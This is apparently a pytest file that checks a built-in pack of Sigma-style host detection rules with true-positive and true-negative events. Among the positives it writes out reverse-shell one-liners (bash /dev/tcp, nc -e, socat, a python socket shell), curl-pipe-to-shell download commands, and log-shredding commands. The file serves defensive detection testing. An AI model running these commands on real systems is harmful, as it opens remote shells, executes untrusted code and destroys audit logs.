"""The built-in rule pack (hive/rules): every rule has true-positive and
true-negative wire events here, and a rule without them fails."""

import os
import uuid

import pytest

from hive.sigma import BUILTIN_RULES, RuleEngine, SigmaEvent, check_rules, load_rules, sigma_events
from wire import Connect, Exec, Open, SetId

RULES = load_rules([BUILTIN_RULES])
DETECTION = {r.id: r for r in RULES.index.rules}
CORRELATION = {c.id: c for c in RULES.correlations}

RD, WR = os.O_RDONLY, os.O_WRONLY | os.O_CREAT | os.O_TRUNC


def run(image, command, **kw):
    return Exec(agent="h", pid=kw.pop("pid", 300), ppid=kw.pop("ppid", 200), filename=image,
                exe=kw.pop("exe", image), argv=command.split(), cmdline=command, **kw)


def opened(path, image, flags=RD, **kw):
    return Open(agent="h", pid=300, path=path, flags=flags, image=image, **kw)


def connect(address, port, image="/usr/bin/curl", **kw):
    return Connect(agent="h", pid=300, family=10 if ":" in address else 2, address=address,
                   port=port, image=image, **kw)


VLLM = "python3 -m vllm.entrypoints.openai.api_server --model /models/llama"
KERNEL = "/usr/bin/python3 -m ipykernel_launcher -f /run/user/1000/jupyter/kernel-1.json"

CASES = {
    # seed -----------------------------------------------------------------------------
    "f0e573d2-6313-4ebf-acd3-66449483759d": (  # exec from world-writable dirs
        [run("/tmp/x", "/tmp/x"), run("/dev/shm/.k", "/dev/shm/.k"),
         run("./payload", "./payload", exe="/var/tmp/payload")],
        [run("/usr/bin/ls", "ls /tmp/"), Exec(agent="h", filename="/tmp/x", result=-2)]),
    "b6951d16-7713-4235-83e4-a3d958e403ae": (  # known-bad ports
        [connect("203.0.113.5", 4444), connect("2001:db8::1", 31337)],
        [connect("203.0.113.5", 443), connect("127.0.0.1", 4444)]),
    "302196c1-e34d-4fa8-9854-d313e973dc85": (  # shadow read
        [opened("/etc/shadow", "/usr/bin/cat"),
         opened("/etc/shadow", "/usr/bin/python3", result=-13),
         opened("/etc/shadow", "/usr/bin/cat", package="coreutils")],  # the system's own cat, still
        [opened("/etc/shadow", "/usr/sbin/unix_chkpwd"), opened("/etc/passwd", "/usr/bin/cat"),
         # debconf and adduser's tools look accounts up as root in a package's scripts
         opened("/etc/shadow", "/usr/share/debconf/frontend", package_session="/usr/bin/dpkg"),
         opened("/etc/shadow", "/usr/sbin/dpkg-preconfigure", package_session="/usr/bin/apt-get"),
         opened("/etc/shadow", "/usr/sbin/deluser"), opened("/etc/shadow", "/usr/bin/chfn")]),
    "40c96ca6-9ba3-42ec-a745-dcbcc90136b4": (  # passwd read with a text tool
        [opened("/etc/passwd", "/usr/bin/cat"), opened("/etc/group", "/usr/bin/grep")],
        [opened("/etc/passwd", "/usr/bin/ls"), opened("/etc/hosts", "/usr/bin/cat")]),
    "99668ef1-b53c-46ec-862e-d78886de8d78": (  # account database written
        [opened("/etc/passwd", "/usr/bin/python3", WR),
         opened("/etc/sudoers.d/backdoor", "/usr/bin/tee", WR)],
        [opened("/etc/passwd", "/usr/sbin/useradd", WR), opened("/etc/passwd", "/usr/bin/tee"),
         opened("/etc/passwd", "/usr/sbin/update-passwd", WR, package_session="/usr/bin/dpkg")]),
    "0504836b-8a2a-4133-8cc4-563d59c188bb": (  # became root
        [SetId(agent="h", call="setuid", old=1000, new=0, image="/tmp/exploit"),
         # a setuid-root program run by a user: effectively root already, never held it
         SetId(agent="h", call="setuid", old=0, new=0, held=False, image="/srv/tools/helper"),
         SetId(agent="h", call="setresuid", old=1000, new=0, held=False, image="/tmp/exploit")],
        [SetId(agent="h", call="setuid", old=1000, new=0, image="/usr/bin/sudo"),
         # root's apt-get back from its _apt sandbox
         SetId(agent="h", call="setresuid", old=42, new=0, held=True, image="/usr/bin/apt-get"),
         SetId(agent="h", call="setuid", old=0, new=0, image="/usr/sbin/cron"),
         SetId(agent="h", call="setuid", old=1000, new=0, image="/tmp/x", result=-1)]),
    "a1cc0e9e-aeba-4e34-9e77-499794339b57": (  # setuid to nobody
        [SetId(agent="h", call="setresuid", old=0, new=65534, image="/usr/sbin/dnsmasq")],
        [SetId(agent="h", call="setgid", old=0, new=65534, image="/usr/sbin/dnsmasq"),
         SetId(agent="h", call="setuid", old=0, new=33, image="/usr/sbin/apache2")]),
    # linux ----------------------------------------------------------------------------
    "139f073e-48c0-48af-af1c-71581a80d7da": (  # reverse shells
        [run("/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
         run("/usr/bin/nc", "nc -e /bin/sh 203.0.113.5 4444"),
         run("/usr/bin/socat", "socat tcp:203.0.113.5:4444 exec:/bin/sh,pty"),
         run("/bin/sh", "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1| nc 1.2.3.4 80 >/tmp/f"),
         run("/usr/bin/python3", "python3 -c import socket,os;s=socket.socket();"
             "s.connect(('1.2.3.4',80));os.dup2(s.fileno(),0);os.execl('/bin/sh','sh')")],
        [run("/usr/bin/nc", "nc -z 10.0.0.1 22"), run("/usr/bin/python3", "python3 app.py")]),
    "488597a6-c0b3-400d-8838-80619b109a42": (  # download and execute
        [run("/bin/bash", "bash -c curl -fsSL http://203.0.113.5/x.sh | sh"),
         run("/bin/sh", "sh -c wget -q http://x/m -O /tmp/m && chmod +x /tmp/m && /tmp/m"),
         run("/bin/sh", "sh -c curl http://x/p.py|python3")],
        [run("/bin/bash", "bash -c curl -s http://x/file | sha256sum"),
         run("/usr/bin/curl", "curl -o out.tgz https://example.com/out.tgz")]),
    "634f5ad5-1411-4afd-8420-e7d6a3df4576": (  # ssh keys and histories
        [opened("/home/alice/.ssh/id_ed25519", "/usr/bin/cat"),
         opened("/etc/ssh/ssh_host_rsa_key", "/tmp/x"),
         opened("/root/.bash_history", "/usr/bin/grep")],
        [opened("/home/alice/.ssh/id_ed25519", "/usr/bin/ssh"),
         opened("/root/.bash_history", "/usr/bin/bash"),
         opened("/etc/ssh/ssh_host_rsa_key.pub", "/usr/bin/cat")]),
    "1127aad3-4cca-430e-b248-7b48aa7f1ad3": (  # cron
        [opened("/var/spool/cron/crontabs/root", "/usr/bin/crontab", WR),
         opened("/etc/cron.d/updater", "/usr/bin/bash", WR), opened("/etc/crontab", "/bin/sh", WR)],
        [opened("/etc/cron.d/updater", "/usr/bin/cat"),
         opened("/etc/cron.daily/logrotate", "/usr/bin/dpkg", WR)]),
    "c41ce0cb-37db-48e7-a87e-a9a82184d906": (  # systemd units
        [opened("/etc/systemd/system/kworker.service", "/usr/bin/tee", WR),
         opened("/home/bob/.config/systemd/user/sync.timer", "/usr/bin/python3", WR)],
        [opened("/lib/systemd/system/ssh.service", "/usr/bin/dpkg", WR),
         opened("/etc/systemd/system/kworker.service", "/usr/bin/cat"),
         opened("/etc/systemd/journald.conf", "/usr/bin/vim", WR)]),
    "7ccd23cc-a01b-47d1-bdfd-bce1949aae65": (  # authorized_keys
        [opened("/root/.ssh/authorized_keys", "/bin/bash", WR)],
        [opened("/root/.ssh/authorized_keys", "/usr/sbin/sshd"),
         opened("/home/ubuntu/.ssh/authorized_keys", "/usr/bin/cloud-init", WR)]),
    "5c319f6a-476b-481d-9577-2053d53fe72f": (  # shell startup files
        [opened("/home/alice/.bashrc", "/bin/bash", WR),
         opened("/etc/profile.d/z.sh", "/usr/bin/curl", WR)],
        [opened("/home/alice/.bashrc", "/bin/bash"),
         opened("/etc/profile.d/z.sh", "/usr/bin/dpkg", WR)]),
    "523512c5-a6ad-49dd-b222-d322c3a2225c": (  # ld.so.preload
        [opened("/etc/ld.so.preload", "/usr/bin/tee", WR)],
        [opened("/etc/ld.so.preload", "/usr/bin/ls"), opened("/etc/ld.so.conf", "/x", WR)]),
    "28d74390-8fd7-457d-b0f7-d7893bf464cc": (  # log tampering
        [run("/usr/bin/shred", "shred -u /var/log/auth.log"),
         run("/usr/bin/journalctl", "journalctl --vacuum-time=1s"),
         run("/bin/bash", "bash -c unset HISTFILE; id")],
        [run("/usr/bin/rm", "rm -f /tmp/scratch"), run("/usr/bin/journalctl", "journalctl -u ssh"),
         run("/usr/bin/less", "less /var/log/syslog")]),
    "4d836e8c-981f-4983-85b9-ffca30676577": (  # suid
        [run("/usr/bin/chmod", "chmod u+s /tmp/sh"), run("/bin/chmod", "chmod 4755 /tmp/sh"),
         run("/usr/sbin/setcap", "setcap cap_setuid+ep /usr/bin/python3")],
        [run("/usr/bin/chmod", "chmod 755 /opt/app"), run("/usr/bin/chmod", "chmod +x run.sh"),
         # a maintainer script giving its package's program its mode
         run("/usr/bin/chmod", "chmod 2755 /usr/bin/ssh-agent", package_session="/usr/bin/dpkg")]),
    "9d7145e1-92b0-495a-a16c-9bbaf37501e6": (  # container escape
        [run("/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n -p -- bash"),
         run("/bin/mount", "mount /dev/sda1 /mnt", container="3f2a"),
         run("/bin/sh", "sh -c echo /cmd > /sys/fs/cgroup/x/release_agent")],
        [run("/usr/bin/nsenter", "nsenter -t 4242 -n ip addr"),
         run("/bin/mount", "mount /dev/sda1 /mnt")]),
    "2d86f91e-b4cb-447b-9ad5-4ab3f41ab42c": (  # python spawns an interactive shell
        [run("/bin/sh", "/bin/sh", parent_image="/usr/bin/python3", parent_cmdline="python3 x.py"),
         run("/bin/bash", "bash -i", parent_image="/opt/conda/bin/python3.11")],
        [run("/bin/sh", "/bin/sh -c id", parent_image="/usr/bin/python3"),
         run("/usr/bin/bash", "bash /etc/cron.daily/logrotate", parent_image="/usr/bin/python3"),
         run("/bin/sh", "/bin/sh", parent_image="/usr/sbin/sshd")]),
    "6c4195e4-6bf7-4ba6-9a5b-288e5af916ad": (  # python runs a shell command
        [run("/bin/sh", "/bin/sh -c curl http://x | sh", parent_image="/usr/bin/python3")],
        [run("/bin/sh", "/bin/sh -c uname -p 2> /dev/null", parent_image="/usr/bin/python3"),
         run("/bin/sh", "/bin/sh -c id", parent_image="/usr/bin/perl"),
         run("/bin/sh", "/bin/sh", parent_image="/usr/bin/python3")]),
    "4a4aea82-aa6d-4680-864f-a42147999665": (  # discovery command (feeds the burst only)
        [run("/usr/bin/whoami", "whoami"), run("/usr/bin/uname", "uname -a")],
        [run("/usr/bin/make", "make"), run("/usr/bin/identify", "identify x.png")]),
    # ai -------------------------------------------------------------------------------
    "3a79a092-b108-4633-809e-e51bf055d6af": (  # inference server spawns a shell
        [run("/bin/sh", "sh -c id", parent_image="/usr/bin/python3.11", parent_cmdline=VLLM),
         run("/usr/bin/curl", "curl http://x", parent_image="/usr/local/bin/ollama",
             parent_cmdline="ollama serve")],
        [run("/bin/sh", "sh -c ldconfig -p", parent_image="/usr/bin/python3.11",
             parent_cmdline=VLLM),
         run("/bin/sh", "sh -c id", parent_image="/usr/bin/python3", parent_cmdline="python3 app.py"),
         run("/usr/bin/nvidia-smi", "nvidia-smi", parent_image="/usr/local/bin/ollama")]),
    "3e6979ec-d767-468e-91af-e8c5ba8b726c": (  # notebook spawns a shell
        [run("/bin/sh", "/bin/sh -c wget http://x/m", parent_image="/usr/bin/python3",
             parent_cmdline=KERNEL)],
        [run("/bin/bash", "bash -l", parent_image="/usr/bin/python3",
             parent_cmdline="python3 -m jupyter-lab terminado"),
         run("/usr/bin/git", "git status", parent_image="/usr/bin/python3", parent_cmdline=KERNEL)]),
    "0bbc59f2-7bcc-4e5d-ba67-73e2577805ad": (  # model weights read by a stranger
        [opened("/srv/models/llama-3-8b/model-00001.safetensors", "/usr/bin/scp"),
         opened("/root/.ollama/models/blobs/x.gguf", "/usr/bin/python3", cmdline="python3 steal.py")],
        [opened("/srv/models/llama-3-8b/model-00001.safetensors", "/usr/bin/python3.11",
                cmdline=VLLM),
         opened("/root/.ollama/models/blobs/x.gguf", "/usr/local/bin/ollama"),
         opened("/usr/lib/firmware/intel.bin", "/usr/bin/cat")]),
    "0f83babe-7be6-4c9c-99fd-584931cc94cc": (  # gpu device, unexpected program
        [opened("/dev/nvidia0", "/tmp/.x/xmrig", os.O_RDWR),
         opened("/dev/dri/renderD128", "/opt/miner/t-rex", os.O_RDWR)],
        [opened("/dev/nvidia0", "/usr/bin/nvidia-smi", os.O_RDWR),
         opened("/dev/nvidiactl", "/opt/conda/bin/python3.10", os.O_RDWR),
         opened("/dev/null", "/tmp/.x/xmrig", os.O_RDWR)]),
    "49c05d39-228c-411d-9e1d-3efbe96f67a9": (  # api tokens
        [opened("/home/ml/.cache/huggingface/token", "/usr/bin/cat"),
         opened("/srv/app/.env", "/usr/bin/curl"),
         opened("/root/.aws/credentials", "/tmp/.x/stealer")],
        [opened("/home/ml/.cache/huggingface/token", "/usr/bin/python3.11"),
         opened("/root/.aws/credentials", "/usr/local/bin/aws"),
         opened("/srv/app/.envrc", "/usr/bin/cat")]),
    "73357863-7284-47fb-aa21-ca3ca3b6e6f5": (  # model server outbound
        [connect("203.0.113.9", 443, "/usr/local/bin/ollama"),
         connect("198.51.100.7", 8080, "/usr/bin/python3.11", cmdline=VLLM)],
        [connect("10.1.2.3", 443, "/usr/local/bin/ollama"),
         connect("18.239.50.1", 443, "/usr/local/bin/ollama", hostname="cdn-lfs.huggingface.co"),
         connect("203.0.113.9", 443, "/usr/bin/python3", cmdline="python3 app.py")]),
}

DISCOVERY = [f"/usr/bin/{tool}" for tool in ("whoami", "id", "uname", "hostname", "ps")]

CORRELATION_CASES = {
    "557ec63a-6218-4de0-a829-b1132da4a0e5": (  # burst of discovery commands
        [[run(image, image.rsplit("/", 1)[1], ppid=77) for image in DISCOVERY]],
        [[run(image, image.rsplit("/", 1)[1], ppid=77) for image in DISCOVERY[:4]] * 3,
         [run(image, image.rsplit("/", 1)[1], ppid=77 + n) for n, image in enumerate(DISCOVERY)]]),
}


def matches(rule, event) -> bool:
    """The rule's verdict on a wire event, through the field mapping and the index."""
    for category, fields in sigma_events(event):
        if category == rule.category:
            view = SigmaEvent(category, fields, event)
            if rule in RULES.index.candidates(view) and rule.match(view):
                return True
    return False


class Clock:
    now = 0.0

    def __call__(self) -> float:
        return self.now


def alerts_for(events) -> list:
    clock = Clock()
    engine = RuleEngine(clock=clock)
    engine.load(BUILTIN_RULES)
    alerts = []
    for event in events:
        clock.now += 1
        alerts.extend(engine.process(event))
    return alerts


def test_the_pack_loads_completely():
    report = check_rules(BUILTIN_RULES)
    assert report.ok, report.format()
    assert len(report.rules) >= 20


def test_every_rule_has_cases():
    assert set(DETECTION) == set(CASES), "rules without cases, or cases without rules"
    assert set(CORRELATION) == set(CORRELATION_CASES)


@pytest.mark.parametrize("rule_id", sorted(DETECTION))
def test_rule_metadata(rule_id):
    rule = DETECTION[rule_id]
    assert uuid.UUID(rule.id).version == 4
    assert rule.author == "SENTINEL IMMUNE"
    assert rule.level in ("informational", "low", "medium", "high", "critical")
    assert rule.description
    assert any(t.startswith("attack.t") for t in rule.tags), rule.tags
    assert any(t.startswith("attack.") and not t.startswith("attack.t") for t in rule.tags)


@pytest.mark.parametrize("rule_id", sorted(DETECTION))
def test_true_positives(rule_id):
    rule = DETECTION[rule_id]
    positives, _ = CASES[rule_id]
    assert positives
    for event in positives:
        assert matches(rule, event), event


@pytest.mark.parametrize("rule_id", sorted(DETECTION))
def test_true_negatives(rule_id):
    rule = DETECTION[rule_id]
    _, negatives = CASES[rule_id]
    assert negatives
    for event in negatives:
        assert not matches(rule, event), event


@pytest.mark.parametrize("rule_id", sorted(DETECTION))
def test_positives_raise_their_alert_unless_only_correlated(rule_id):
    positives, _ = CASES[rule_id]
    raised = {a.rule_id for a in alerts_for(positives[:1])}
    assert (rule_id in raised) is (rule_id not in RULES.silent)


@pytest.mark.parametrize("rule_id", sorted(CORRELATION))
def test_correlation_cases(rule_id):
    positives, negatives = CORRELATION_CASES[rule_id]
    for sequence in positives:
        assert rule_id in {a.rule_id for a in alerts_for(sequence)}
    for sequence in negatives:
        assert rule_id not in {a.rule_id for a in alerts_for(sequence)}
